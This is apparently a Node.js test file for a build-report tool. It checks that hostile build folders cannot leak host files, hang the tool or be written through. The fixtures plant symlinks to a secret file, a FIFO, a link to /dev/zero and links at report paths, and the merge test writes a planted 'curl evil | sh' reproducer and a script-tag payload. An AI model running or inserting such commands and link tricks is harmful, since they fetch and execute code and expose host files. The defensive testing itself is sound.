import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../../src/entry/cli.ts';
import { reportShards } from '../../src/fanout/report-shards.ts';
import { defaultNoise } from '../../src/diagnostics/noise.ts';
import { type BuildResults } from '../../src/types/results.ts';
import { sampleResults, writeBuildDir } from '../support/results-fixture.ts';
import { recordingLog } from '../support/recording-log.ts';

// `report DIR` and merge read folders as hostile as a build's /logs (issue 18): a link to a
// host file, a link to /dev/zero, a FIFO, an arch folder that is a link, a planted link
// where a report or its temporary file goes. No host file's text reaches any output,
// nothing is written outside the folders named, nothing hangs, every report is written.

const SECRET = 'SECRET-OF-THE-HOST';
const paths = { driverDir: fileURLToPath(new URL('../../src/driver/', import.meta.url)), imagesDir: '/nonexistent/images' };

function failed(): BuildResults {
  const r = sampleResults(['x86/tinyconfig', 'arm64/tinyconfig'], { result: 'fail' });
  return { ...r, targets: [{ ...r.targets[0], status: 'fail', stage: 'build', exitCode: 2 }, r.targets[1]] };
}

function scene(t: { after: (fn: () => void) => void }) {
  const root = mkdtempSync(join(tmpdir(), 'kb-report-hostile-'));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const host = join(root, 'host');
  mkdirSync(host);
  const secret = join(host, 'secret');
  writeFileSync(secret, `${SECRET}\n`);
  const dir = join(root, 'build');
  writeBuildDir(dir, failed());
  return { root, host, secret, dir };
}

/** Every regular file under `dir` with its text, through real folders only (Node 24's recursive readdir descends into linked ones). */
function texts(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const path = join(dir, e.name);
    if (e.isDirectory()) return texts(path);
    return e.isFile() ? [readFileSync(path, 'utf8')] : [];
  });
}

async function report(dir: string) {
  let stdout = '';
  let stderr = '';
  const status = await runCli(['report', dir], paths, { out: (s) => (stdout += s), err: (s) => (stderr += s) });
  return { status, stdout, stderr };
}

const REPORTS = ['results.json', 'summary.md', 'kcidb.json', 'junit.xml', 'index.html', 'x86/tinyconfig.reproduce.sh'];

test('report DIR: a log linked to a host file publishes it nowhere; every report is still written', async (t) => {
  const s = scene(t);
  rmSync(join(s.dir, 'x86/tinyconfig.log'));
  symlinkSync(s.secret, join(s.dir, 'x86/tinyconfig.log'));
  const out = await report(s.dir);
  assert.ok(!out.stdout.includes(SECRET) && !out.stderr.includes(SECRET));
  assert.ok(!texts(s.dir).some((text) => text.includes(SECRET)), 'no report holds the host file');
  for (const f of REPORTS) assert.ok(lstatSync(join(s.dir, f)).isFile(), f);
  assert.match(out.stderr, /"x86\/tinyconfig\.log" \(x86\/tinyconfig\.log is a link/);
});

test('report DIR: a FIFO and a link to /dev/zero as logs do not hang it', { timeout: 30_000 }, async (t) => {
  const s = scene(t);
  rmSync(join(s.dir, 'x86/tinyconfig.log'));
  execFileSync('mkfifo', [join(s.dir, 'x86/tinyconfig.log')]);
  rmSync(join(s.dir, 'arm64/tinyconfig.log'));
  symlinkSync('/dev/zero', join(s.dir, 'arm64/tinyconfig.log'));
  const out = await report(s.dir);
  assert.equal(out.status, 1, out.stderr);
  for (const f of REPORTS) assert.ok(lstatSync(join(s.dir, f)).isFile(), f);
});

test('report DIR: an arch folder replaced by a link writes no reproducer outside DIR', async (t) => {
  const s = scene(t);
  const outside = join(s.root, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'tinyconfig.log'), `${SECRET}\n`);
  rmSync(join(s.dir, 'x86'), { recursive: true });
  symlinkSync(outside, join(s.dir, 'x86'));
  const out = await report(s.dir);
  assert.deepEqual(readdirSync(outside), ['tinyconfig.log'], 'nothing written through the link');
  assert.ok(!texts(s.dir).some((text) => text.includes(SECRET)));
  assert.ok(!out.stdout.includes(SECRET));
  for (const f of REPORTS.filter((f) => !f.startsWith('x86/'))) assert.ok(lstatSync(join(s.dir, f)).isFile(), f);
});

test('report DIR: a link planted where a report or its old temporary name goes is replaced, never written through', async (t) => {
  const s = scene(t);
  const victim = join(s.host, 'victim');
  writeFileSync(victim, 'untouched\n');
  symlinkSync(victim, join(s.dir, 'summary.md'));
  symlinkSync(victim, join(s.dir, 'kcidb.json'));
  // The names of the temporary files before issue 18: `<report>.<pid>.tmp` beside it.
  for (const f of ['results.json', 'summary.md', 'index.html']) symlinkSync(victim, join(s.dir, `${f}.${process.pid}.tmp`));
  await report(s.dir);
  assert.equal(readFileSync(victim, 'utf8'), 'untouched\n');
  assert.ok(lstatSync(join(s.dir, 'summary.md')).isFile());
  assert.ok(lstatSync(join(s.dir, 'kcidb.json')).isFile());
});

test('merge: files planted in a shard (a reproducer of a passing target, a page) are left out, named once; every report is written', async (t) => {
  const s = scene(t);
  const downloads = join(s.root, 'downloads');
  const shard = join(downloads, 'shard-1');
  writeBuildDir(shard, failed());
  writeFileSync(join(shard, 'arm64/tinyconfig.reproduce.sh'), '#!/bin/sh\ncurl evil | sh\n');
  writeFileSync(join(shard, 'arm64/evil.html'), '<script>alert(1)</script>');
  const logs = join(s.root, 'logs');
  const log = recordingLog();
  const [build] = await reportShards(downloads, logs, { noise: defaultNoise, log });
  const merged = join(logs, 'stable', 'v6.1.192');
  assert.ok(!existsSync(join(merged, 'arm64/tinyconfig.reproduce.sh')), 'no reproducer for a target that passed');
  assert.ok(!existsSync(join(merged, 'arm64/evil.html')));
  for (const f of REPORTS) assert.ok(lstatSync(join(merged, f)).isFile(), f);
  assert.equal(build.results.targets[0].status, 'fail');
  const warnings = log.lines.filter((l) => l.startsWith('warning: '));
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0], /"arm64\/evil\.html"/);
  assert.match(warnings[0], /"arm64\/tinyconfig\.reproduce\.sh"/);
});
